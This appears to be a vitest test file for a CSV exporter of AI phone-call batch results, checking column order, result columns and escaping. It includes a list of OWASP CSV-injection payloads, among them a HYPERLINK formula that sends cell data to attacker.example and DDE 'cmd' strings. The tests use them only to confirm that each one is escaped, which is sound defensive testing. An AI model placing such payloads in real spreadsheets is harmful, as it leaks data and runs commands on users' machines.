import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { parseBatchCsv } from './batch-csv';
import { checkBatchRow } from './batch-rows';
import type { BatchTask } from './batch-types';
import { resultsCsv } from './results-csv';

const task = (overrides: Partial<BatchTask>): BatchTask => ({
  id: 'task_01',
  status: 'success',
  outcome: 'achieved',
  phone_number: '+14155550100',
  goal: 'Ask, politely',
  metadata: {},
  summary: null,
  failure_reason: null,
  call_outcome: 'human_answered',
  duration_seconds: 61,
  cost_usd: 0.02,
  batch_id: 'batch_01',
  batch_index: 0,
  created_at: '2026-11-26T00:00:00Z',
  started_at: null,
  ended_at: null,
  next_attempt_at: null,
  ...overrides,
});

describe('resultsCsv', () => {
  it('has one row per task: input columns, status, outcome, call outcome, summary, failure code, cost', () => {
    const csv = resultsCsv([
      task({ metadata: { pupil: 'Kim' }, summary: 'Kim is sick, "flu", back Monday.' }),
      task({
        id: 'task_02',
        status: 'failed',
        outcome: 'not_achieved',
        failure_reason: {
          code: 'insufficient_credits',
          message: 'The account’s credits could not pay for the call when its turn came.',
        },
        call_outcome: null,
        cost_usd: 0,
        metadata: { pupil: 'Sam' },
      }),
    ]);
    const parsed = parseBatchCsv(csv);
    expect(parsed.columns).toEqual([
      'row',
      'phone_number',
      'goal',
      'pupil',
      'status',
      'outcome',
      'call_outcome',
      'failure_reason',
      'attempts',
      'started_at',
      'ended_at',
      'duration_seconds',
      'cost_usd',
      'summary',
      'transcript',
      'task_id',
    ]);
    expect(parsed.records[0]).toMatchObject({
      pupil: 'Kim',
      status: 'success',
      call_outcome: 'human_answered',
      summary: 'Kim is sick, "flu", back Monday.',
      cost_usd: '0.02',
    });
    expect(parsed.records[1]).toMatchObject({
      status: 'failed',
      call_outcome: '',
      failure_reason: 'insufficient_credits',
    });
  });

  it('keeps the upload’s column order, not the order the API returns metadata in', () => {
    // jsonb returns keys shortest first: {"name", "clinic"} comes back as name, clinic.
    const csv = resultsCsv(
      [
        task({
          batch_index: 1,
          metadata: { name: 'Kim', clinic: 'North', zz: 'extra' },
          attempts: [
            { number: 1, status: 'no_answer', started_at: 'a', ended_at: 'b', ended_reason: 'x' },
            { number: 2, status: 'success', started_at: 'c', ended_at: 'd', ended_reason: 'y' },
          ] as BatchTask['attempts'],
          started_at: '2026-11-26T10:00:00Z',
          ended_at: '2026-11-26T10:01:01Z',
          transcript: [
            {
              speaker: 'agent',
              text: 'Hello, this is Clinic’s AI assistant.',
              start_ms: 0,
              end_ms: 1,
              dtmf: null,
            },
            { speaker: 'callee', text: 'Hi.', start_ms: 2, end_ms: 3, dtmf: null },
          ],
          result: { confirmed: true },
        }),
      ],
      ['phone_number', 'clinic', 'name'],
    );
    const parsed = parseBatchCsv(csv);
    expect(parsed.columns.slice(0, 6)).toEqual([
      'row',
      'phone_number',
      'goal',
      'clinic',
      'name',
      'zz',
    ]);
    expect(parsed.columns.slice(-3)).toEqual(['result.confirmed', 'transcript', 'task_id']);
    expect(parsed.records[0]).toMatchObject({
      row: '2',
      attempts: '2',
      started_at: '2026-11-26T10:00:00Z',
      ended_at: '2026-11-26T10:01:01Z',
      transcript: 'agent: Hello, this is Clinic’s AI assistant.\ncallee: Hi.',
    });
  });

  it('adds result.<field> columns when the tasks carry a structured result', () => {
    const csv = resultsCsv([
      task({ result: { confirmed: true, reason: null, dates: ['Mon'] } }),
      task({ id: 'task_02', result: null }),
    ]);
    const parsed = parseBatchCsv(csv);
    expect(parsed.columns).toEqual(
      expect.arrayContaining(['result.confirmed', 'result.reason', 'result.dates']),
    );
    expect(parsed.records[0]).toMatchObject({
      'result.confirmed': 'true',
      'result.reason': '',
      'result.dates': '["Mon"]',
    });
    expect(parsed.records[1]!['result.confirmed']).toBe('');
  });

  // OWASP's CSV-injection list; the values come from uploaded lists and from what callees say.
  const ATTACKS = [
    '=HYPERLINK("https://attacker.example/?x="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '=1+1\nsecond line',
  ];

  it.each(ATTACKS)('escapes a cell starting like %j in every column, header included', (attack) => {
    const csv = resultsCsv([
      task({
        id: attack,
        phone_number: attack,
        goal: attack,
        status: attack as BatchTask['status'],
        outcome: attack as BatchTask['outcome'],
        summary: attack,
        failure_reason: { code: attack as 'provider_failed', message: attack },
        call_outcome: attack as BatchTask['call_outcome'],
        metadata: { [attack]: attack, pupil: attack },
        result: { [attack]: attack, confirmed: attack },
      }),
    ]);
    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
    const cells = parsed.data.flat();
    const formulaLike = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulaLike).toEqual([]);
    // Each attack is kept as text, behind the apostrophe, in every column that carried it.
    expect(cells.filter((cell) => cell === `'${attack}`).length).toBeGreaterThanOrEqual(11);
    // And every escaped cell is quoted, as OWASP asks.
    for (const line of csv.split('\r\n').slice(1, 2))
      expect(line.startsWith(`1,"'${attack.slice(0, 1)}`)).toBe(true);
  });

  it('leaves ordinary cells as they are', () => {
    const csv = resultsCsv([task({ summary: 'Kim is fine = good', goal: 'a-b', cost_usd: 0.5 })]);
    expect(parseBatchCsv(csv).records[0]).toMatchObject({
      summary: 'Kim is fine = good',
      goal: 'a-b',
      cost_usd: '0.50',
    });
  });

  it('keeps phone numbers and signed numbers as they are, and can be uploaded again', () => {
    const csv = resultsCsv([
      task({ phone_number: '+14155550100', metadata: { balance: '-12.50', code: '+1+2' } }),
    ]);
    const parsed = parseBatchCsv(csv);
    expect(parsed.records[0]!.phone_number).toBe('+14155550100');
    expect(parsed.records[0]!.balance).toBe('-12.50');
    // Anything more than a signed number is still escaped.
    expect(parsed.records[0]!.code).toBe("'+1+2");
    expect(checkBatchRow(parsed.records[0]!, 1, 'Ask').body.phone_number).toBe('+14155550100');
  });
});
